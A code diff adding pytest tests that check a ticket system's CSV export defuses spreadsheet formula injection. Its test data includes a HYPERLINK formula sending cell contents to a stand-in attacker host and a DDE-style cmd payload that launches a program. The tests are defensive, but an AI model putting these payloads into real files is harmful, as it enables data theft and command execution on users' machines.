@@ -422,3 +422,51 @@ def test_tickets_export_as_csv_with_the_filters_and_only_this_organization(
     assert [r[1] for r in rows[1:]] == ["Printer jam on floor 2"]
     everything = b"".join(client.get(reverse("ticket_export")).streaming_content).decode()
     assert "VPN router" in everything and "Secret" not in everything
+
+
+FORMULAS = [
+    ('=HYPERLINK("https://evil.example/?leak="&A2,"Open")', "=1+1"),
+    ("+1 printer on floor 2", "+1"),
+    ("-2+3 monitors flicker", "-2+3"),
+    ("@SUM(A1:A9) in the budget sheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
+]
+
+
+def test_the_csv_export_neutralizes_cells_a_spreadsheet_would_run_as_formulas(
+    org_with_model, agent, login
+):
+    for title, body in FORMULAS:
+        _submit(org_with_model, agent, title=title, body=body)
+    response = login(agent).get(reverse("ticket_export"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    header, data = rows[0], rows[1:]
+    cells = [dict(zip(header, row, strict=True)) for row in data]
+    assert [(c["title"], c["body"]) for c in cells] == [
+        (f"'{title}", f"'{body}") for title, body in FORMULAS
+    ]
+    # Numbers people did not write stay numbers.
+    assert [c["number"] for c in cells] == [str(n) for n in range(1, len(FORMULAS) + 1)]
+    assert all(not c["category_confidence"].startswith("'") for c in cells)
+    assert all(c["created_at"][:1].isdigit() for c in cells)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Printer = broken", "Printer = broken"),
+        ("", ""),
+        (-2, -2),
+        (0.25, 0.25),
+        (None, None),
+    ],
+)
+def test_spreadsheet_cells(value, cell):
+    from solutions.exports import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == cell
